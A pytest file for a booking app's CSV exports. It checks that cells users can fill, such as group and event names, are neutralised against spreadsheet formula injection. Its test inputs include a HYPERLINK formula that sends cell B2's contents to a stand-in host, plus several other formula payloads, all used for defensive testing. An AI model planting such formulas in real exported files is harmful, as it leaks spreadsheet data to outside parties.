"""Issue 14, item 1: no CSV export hands a spreadsheet a formula typed by a user."""

from __future__ import annotations

import csv
import io

import httpx
import pytest
from sqlalchemy.ext.asyncio import AsyncSession

from booking.accounts.models import Group
from booking.web.spreadsheet import FORMULA_STARTS, csv_text, safe_cell
from tests.people import World
from tests.places import Hall

HYPERLINK = '=HYPERLINK("http://x/?"&B2,"x")'
# Each starts as a spreadsheet reads a formula (full-width: as Japanese Excel may).
FORMULAS = [
    HYPERLINK,
    "=1+2",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1+2",
    "＋1",
    "－1",
    "＠A",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_starts_like_a_formula_gets_a_leading_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["川崎合唱団", "A=B", "1-2", "", "'quoted", " =1"])
def test_other_text_and_numbers_stay_as_they_are(text: str) -> None:
    assert safe_cell(text) == text
    assert safe_cell(-5) == -5  # our numbers, never a user's text
    assert safe_cell(None) == ""


def test_the_file_is_utf8_with_a_bom_crlf_and_quoted_where_needed() -> None:
    text = csv_text(["name", "n"], [[HYPERLINK, 3], ["a,b", None]])
    assert text.startswith("\ufeffname,n\r\n")
    assert list(csv.reader(io.StringIO(text.removeprefix("\ufeff")))) == [
        ["name", "n"],
        ["'" + HYPERLINK, "3"],
        ["a,b", ""],
    ]


def cells(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"  # charset once
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (cell, row)


async def test_every_export_neutralises_names_typed_by_users(
    world: World, hall: Hall, client: httpx.AsyncClient, session: AsyncSession
) -> None:
    """The facility's export (the manager's day board links to it) and a group's own
    (/my/bookings.csv): the group name and event names come out as text."""
    group = await session.get_one(Group, world.group_a)
    group.name = HYPERLINK
    await session.commit()
    events = ["=1+2", "@SUM(A1)", "－1"]
    for period, event in zip(("10", "20", "30"), events, strict=True):
        made = await client.post(
            "/api/v1/bookings",
            json={
                "group_id": world.group_a,
                "room_id": hall.room_id,
                "use_date": hall.day.isoformat(),
                "period_codes": [period],
                "purpose": "singing",
                "headcount": 12,
                "event_name": event,
            },
            headers=world.headers("member"),
        )
        assert made.status_code == 201, made.text

    facility = cells(
        await client.get(
            f"/api/v1/facilities/{hall.facility_id}/bookings.csv",
            params={"from": hall.day.isoformat(), "to": hall.day.isoformat()},
            headers=hall.manager,
        )
    )
    mine = cells(
        await client.get(
            "/my/bookings.csv",
            params={"group": world.group_a, "when": "upcoming"},
            headers=world.headers("member"),
        )
    )
    for rows in (facility, mine):
        header, *lines = rows
        assert len(lines) == 3
        assert {line[header.index("group_name")] for line in lines} == {"'" + HYPERLINK}
        assert sorted(line[header.index("event_name")] for line in lines) == sorted(
            "'" + event for event in events
        )
        assert_no_formula(rows)
